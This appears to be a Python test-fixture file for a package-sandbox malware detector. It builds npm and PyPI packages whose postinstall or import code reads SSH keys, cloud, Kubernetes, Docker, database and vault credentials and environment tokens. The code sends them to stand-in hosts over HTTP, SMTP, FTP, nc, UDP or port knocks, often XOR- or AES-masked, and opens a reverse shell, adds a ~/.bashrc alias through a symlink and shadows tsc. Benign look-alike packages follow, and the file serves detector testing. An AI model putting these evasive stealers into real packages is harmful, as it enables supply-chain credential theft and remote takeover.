"""Thieves that take a way round: other names for a file, other hands, other protocols, masks of their own.

And honest neighbours that look like them.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from textwrap import dedent
from typing import Any, Literal

from sandbox.report import Verdict
from tests.packages import build
from tests.packages.fixture import Built, Expectation, Fixture
from tests.packages.npm_thieves import PERSISTED, SENT, TAINT
from tests.packages.settled import javascript, python

CLEAN = Expectation(verdicts=("clean",))
_INDEX = {"index.js": "module.exports = (text) => String(text).trim();\n"}


def npm(
    name: str,
    package: str,
    why: str,
    files: build.Files,
    expect: Expectation,
    *,
    kind: Literal["thief", "neighbour"] = "thief",
    others: Callable[[Path], tuple[Path, ...]] | None = None,
    **manifest: Any,
) -> Fixture:
    """An npm package; where there is a setup.js, its postinstall runs that."""
    whole = {**_INDEX, **files}
    if "setup.js" in whole:
        manifest["scripts"] = {"postinstall": "node setup.js"}

    def make(folder: Path) -> Built:
        archives = others(folder) if others else ()
        return Built(target=build.npm(folder, package, whole, **manifest), archives=archives)

    return Fixture(name=name, ecosystem="npm", kind=kind, package=package, build=make, why=why, expect=expect)


def pypi(
    name: str,
    package: str,
    why: str,
    files: build.Files,
    expect: Expectation,
    *,
    kind: Literal["thief", "neighbour"] = "thief",
    scripts: dict[str, str] | None = None,
    group: str = "console_scripts",
) -> Fixture:
    """A wheel of these files; `scripts` are entry points of `group`."""

    def make(folder: Path) -> Built:
        return Built(target=build.wheel(folder, package, files, scripts=scripts, group=group))

    return Fixture(name=name, ecosystem="pypi", kind=kind, package=package, build=make, why=why, expect=expect)


def theft(
    package: str, decoy: str, way_out: str = "", rules: tuple[str, ...] = TAINT, phase: str = "install"
) -> Expectation:
    ways = (way_out,) if way_out else ()
    return Expectation(rules=rules, decoys=(decoy,), ways_out=ways, package=package, phase=phase)


def _only(rules: tuple[str, ...], package: str, verdict: Verdict = "malicious") -> Expectation:
    return Expectation(verdicts=(verdict,), rules=rules, package=package, phase="install")


# What is read here leaves masked by its position, which no recogniser undoes: the flow alone tells.
_MASKED_POST = "body: Buffer.from(text.map((byte, place) => byte ^ (place % 251)))"

_LINK_AND_BACK = javascript(
    f"""
    fs.symlinkSync(`${{os.homedir()}}/.aws/sso`, "/tmp/shared-session");
    const text = fs.readFileSync("/tmp/shared-session/../credentials");
    await fetch("https://in.relative-way.test/c", {{ method: "POST", {_MASKED_POST} }});
    """
)

_DESCRIPTOR = javascript(
    f"""
    const folder = fs.openSync(`${{os.homedir()}}/.kube`, fs.constants.O_RDONLY | fs.constants.O_DIRECTORY);
    const text = fs.readFileSync(`/proc/self/fd/${{folder}}/config`);
    await fetch("https://in.number-way.test/c", {{ method: "POST", {_MASKED_POST} }});
    """
)

_CONNECTED_FIRST = javascript(
    """
    const line = net.connect(9100, "203.0.113.95");
    await new Promise((done) => line.once("connect", done));
    line.write("hello\\n");
    await new Promise((done) => setTimeout(done, 1000));
    const cipher = crypto.createCipheriv("aes-256-ctr", crypto.randomBytes(32), crypto.randomBytes(16));
    line.end(cipher.update(fs.readFileSync(`${os.homedir()}/.docker/config.json`)));
    await new Promise((done) => line.once("close", done));
    """,
    "net crypto",
)

_LEAVES = javascript(
    """
    const text = fs.readFileSync(`${os.homedir()}/.config/gh/hosts.yml`);
    fs.writeFileSync("/tmp/.layout-cache", text.map((byte, place) => byte ^ (place % 251)));
    """
)

_TAKES_UP = javascript(
    """
    for (let tries = 0; tries < 20 && !fs.existsSync("/tmp/.layout-cache"); tries += 1) {
      await new Promise((done) => setTimeout(done, 200));
    }
    const body = fs.readFileSync("/tmp/.layout-cache");
    await fetch("https://in.layout-words.test/c", { method: "POST", body });
    """
)

_WAITS = javascript(
    """
    const text = fs.readFileSync(`${os.homedir()}/.config/gh/hosts.yml`);
    const mixed = text.map((byte, place) => byte ^ (place % 251));
    const server = net.createServer((caller) => caller.end(mixed, () => server.close()));
    server.listen("\\0board-words");
    setTimeout(() => process.exit(), 9000);
    """,
    "net",
)

_STARTS = javascript(
    """
    const how = { detached: true, stdio: "ignore" };
    child_process.spawn(process.execPath, ["wait.js"], how).unref();
    """,
    "child_process",
)

_ASKS = javascript(
    """
    async function asked() {
      const line = net.connect("\\0board-words");
      const pieces = [];
      for await (const piece of line) pieces.push(piece);
      return Buffer.concat(pieces);
    }
    for (let tries = 0; tries < 30; tries += 1) {
      const body = await asked().catch(() => null);
      if (body) {
        await fetch("https://in.board-words.test/c", { method: "POST", body });
        break;
      }
      await new Promise((done) => setTimeout(done, 200));
    }
    """,
    "net",
)

_SHELL = javascript(
    """
    const line = net.connect(4460, "203.0.113.82");
    await new Promise((done) => line.once("connect", done));
    const shell = child_process.spawn("/bin/sh", []);
    line.pipe(shell.stdin);
    shell.stdout.pipe(line);
    await new Promise((done) => setTimeout(done, 500));
    shell.kill();
    line.destroy();
    """,
    "net child_process",
)

_LINKED_STARTUP = javascript(
    """
    fs.symlinkSync(`${os.homedir()}/.bashrc`, "/tmp/notes-index");
    fs.appendFileSync("/tmp/notes-index", "\\nalias notes='ls ~/notes'\\n");
    """
)

_EVERYBODY = javascript(
    """
    const folder = `${process.env.INIT_CWD}/node_modules/.bin`;
    fs.mkdirSync(folder, { recursive: true });
    fs.writeFileSync(`${folder}/tsc`, "#!/bin/sh\\nexit 0\\n", { mode: 0o755 });
    """
)

_CARRIER = javascript(
    """
    const input = fs.readFileSync(`${os.homedir()}/.ssh/id_ed25519`);
    child_process.spawnSync("nc", ["-w", "2", "203.0.113.85", "4470"], { input });
    """,
    "child_process",
)

_MAIL = python(
    """
    with open(os.path.expanduser("~/.my.cnf")) as file:
        text = file.read()
    try:
        with smtplib.SMTP("mx.letter-box.test", 587, timeout=5) as mail:
            mail.sendmail("a@letter-box.test", "b@letter-box.test", "Subject: weekly\\r\\n\\r\\n" + text)
    except (OSError, smtplib.SMTPException):
        pass
    """,
    "smtplib",
)

_FTP = python(
    """
    try:
        with ftplib.FTP("files.drop-rows.test", timeout=5) as ftp, open(os.path.expanduser("~/.netrc"), "rb") as file:
            ftp.login("a", "b")
            ftp.storbinary("STOR rows.bin", file)
    except (OSError, ftplib.Error, EOFError):
        pass
    """,
    "ftplib",
)

_XOR = python(
    """
    text = repr({name: value for name, value in os.environ.items() if "TOKEN" in name}).encode()
    key = b"k3y-0f-m1ne"
    mixed = bytes(byte ^ key[place % len(key)] for place, byte in enumerate(text))
    try:
        urllib.request.urlopen("https://in.mixed-rows.test/m", data=base64.b64encode(mixed), timeout=5).read()
    except OSError:
        pass
    """,
    "base64 urllib.request",
)

_BASE85 = python(
    """
    packed = base64.b85encode(zlib.compress(repr(dict(os.environ)).encode()))
    try:
        urllib.request.urlopen("https://in.dense-rows.test/m", data=packed, timeout=5).read()
    except OSError:
        pass
    """,
    "base64 zlib urllib.request",
)

_DATAGRAMS = python(
    """
    with open(os.path.expanduser("~/.pgpass"), "rb") as file:
        data = bytes(byte ^ (place % 251) for place, byte in enumerate(file.read()))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.connect(("203.0.113.41", 5353))
        for start in range(0, len(data), 32):
            out.send(bytes([start // 32]) + data[start:start + 32])
    """,
    "socket",
)

_KNOCKS = python(
    """
    with open(os.path.expanduser("~/.vault-token"), "rb") as file:
        data = file.read(24)
    for byte in data:
        with socket.socket() as knock:
            knock.settimeout(1)
            knock.connect_ex(("203.0.113.93", 20000 + byte))
    """,
    "socket",
)


def _two(folder: Path) -> tuple[Path, ...]:
    """One package reads, another one sends what the first left behind."""
    scripts = {"postinstall": "node setup.js"}
    return (
        build.npm(folder, "layout-cache", {**_INDEX, "setup.js": _LEAVES}, scripts={"preinstall": "node setup.js"}),
        build.npm(folder, "layout-sync", {**_INDEX, "setup.js": _TAKES_UP}, scripts=scripts),
    )


def _two_talking(folder: Path) -> tuple[Path, ...]:
    """One package reads and waits, another one asks it and sends: no file passes between them."""
    files = {**_INDEX, "setup.js": _STARTS, "wait.js": _WAITS}
    return (
        build.npm(folder, "board-cache", files, scripts={"preinstall": "node setup.js"}),
        build.npm(folder, "board-sync", {**_INDEX, "setup.js": _ASKS}, scripts={"postinstall": "node setup.js"}),
    )


THIEVES = [
    npm(
        "npm-link-and-back", "relative-way", "through a link and `..`: the path as it is written is another file's",
        {"setup.js": _LINK_AND_BACK}, theft("relative-way", "aws", "in.relative-way.test"),
    ),
    npm(
        "npm-descriptor-path", "number-way", "below the descriptor of a folder, through /proc/self/fd",
        {"setup.js": _DESCRIPTOR}, theft("number-way", "kubernetes", "in.number-way.test"),
    ),
    npm(
        "npm-connected-first", "line-first", "connects, then reads, then sends AES on the connection that it had",
        {"setup.js": _CONNECTED_FIRST}, theft("line-first", "docker", "203.0.113.95"),
    ),
    npm(
        "npm-two-hands", "layout-words", "one dependency reads and leaves a file, another one sends it",
        {}, theft("layout-cache", "github", "in.layout-words.test"), others=_two,
        dependencies={"layout-cache": "1.0.0", "layout-sync": "1.0.0"},
    ),
    npm(
        "npm-two-talking", "board-words", "one dependency reads and waits at a Unix socket, another one asks and sends",
        {}, theft("board-cache", "github", "in.board-words.test"), others=_two_talking,
        dependencies={"board-cache": "1.0.0", "board-sync": "1.0.0"},
    ),
    npm(
        "npm-reverse-shell", "line-open", "gives a shell to whoever listens at an address",
        {"setup.js": _SHELL}, _only(("piped_code_run",), "line-open"),
    ),
    npm(
        "npm-linked-startup", "notes-index", "writes to ~/.bashrc by another name",
        {"setup.js": _LINKED_STARTUP}, _only(PERSISTED, "notes-index"),
    ),
    npm(
        "npm-shadowed-program", "path-first", "puts a program of its own before those of other packages",
        {"setup.js": _EVERYBODY}, _only(("package_tampering",), "path-first", "suspicious"),
    ),
    npm(
        "npm-absent-carrier", "key-notes", "hands a key to `nc`, whether that is there or not",
        {"setup.js": _CARRIER}, theft("key-notes", "ssh", "203.0.113.85", (*SENT, *TAINT)),
    ),
    pypi(
        "pypi-mail", "letter-box", "mail: the server speaks first", {"letter_box/__init__.py": _MAIL},
        theft("letter-box", "databases", "mx.letter-box.test", SENT, "import"),
    ),
    pypi(
        "pypi-ftp", "drop-rows", "FTP: the file goes over a second connection", {"drop_rows/__init__.py": _FTP},
        theft("drop-rows", "netrc", "files.drop-rows.test", SENT, "import"),
    ),
    pypi(
        "pypi-xor", "mixed-rows", "the environment under a mask of its own, in base64: no file is read",
        {"mixed_rows/__init__.py": _XOR}, theft("mixed-rows", "github", "in.mixed-rows.test", SENT, "import"),
    ),
    pypi(
        "pypi-base85", "dense-rows", "the environment compressed, in base85", {"dense_rows/__init__.py": _BASE85},
        theft("dense-rows", "npm_token", "in.dense-rows.test", SENT, "import"),
    ),
    pypi(
        "pypi-datagrams", "many-rows", "numbered datagrams on a connected socket",
        {"many_rows/__init__.py": _DATAGRAMS}, theft("many-rows", "databases", "203.0.113.41", TAINT, "import"),
    ),
    pypi(
        "pypi-knocks", "knock-rows", "sends no byte: the ports that it knocks at are the message",
        {"knock_rows/__init__.py": _KNOCKS}, theft("knock-rows", "vault", "203.0.113.93", TAINT, "import"),
    ),
]  # fmt: skip


_FORKS = dedent(
    """\
    const { fork } = require("node:child_process");
    const worker = fork(`${__dirname}/worker.js`);
    worker.once("message", () => worker.kill());
    """
)

_PROCESSES = dedent(
    """\
    const { spawnSync } = require("node:child_process");
    const listed = spawnSync("ps", ["-A", "-o", "ppid,pid"], { encoding: "utf8" });
    module.exports = (listed.stdout || "").split("\\n").length;
    """
)

_BUNDLES = dedent(
    """\
    #!/usr/bin/env node
    const fs = require("node:fs");
    const folder = "node_modules/.cache/quick-bundle/deps";
    fs.mkdirSync(folder, { recursive: true });
    fs.writeFileSync(`${folder}/package.json`, '{"type":"module"}\\n');
    fs.symlinkSync("../deps", `${folder}-link`);
    fs.readFileSync(`${folder}-link/package.json`);
    fs.rmSync("node_modules/.cache/quick-bundle", { recursive: true });
    """
)

_MAKES_FOLDERS = dedent(
    """\
    import os
    import sys


    def main():
        os.makedirs(os.path.join(os.getcwd(), "build", "pages"), exist_ok=True)
        print("usage: page-maker" if len(sys.argv) > 1 else "nothing to do")
    """
)

NEIGHBOURS = [
    npm(
        "npm-forks", "fork-pool", "a pool of workers made with fork, as test runners have",
        {"index.js": _FORKS, "worker.js": 'process.send("ready");\nsetTimeout(() => {}, 2000);\n'}, CLEAN,
        kind="neighbour",
    ),
    npm(
        "npm-process-list", "process-tree", "asks ps which processes there are, as watchers do",
        {"index.js": _PROCESSES}, CLEAN, kind="neighbour",
    ),
    npm(
        "npm-bundle-cache", "quick-bundle", "its command keeps modules, with manifests, in node_modules/.cache",
        {"cli.js": _BUNDLES}, CLEAN, kind="neighbour", bin={"quick-bundle": "cli.js"},
    ),
    pypi(
        "pypi-makes-folders", "page-maker", "its command makes folders in the working directory",
        {"page_maker/__init__.py": "", "page_maker/command.py": _MAKES_FOLDERS}, CLEAN,
        kind="neighbour", scripts={"page-maker": "page_maker.command:main"},
    ),
]  # fmt: skip
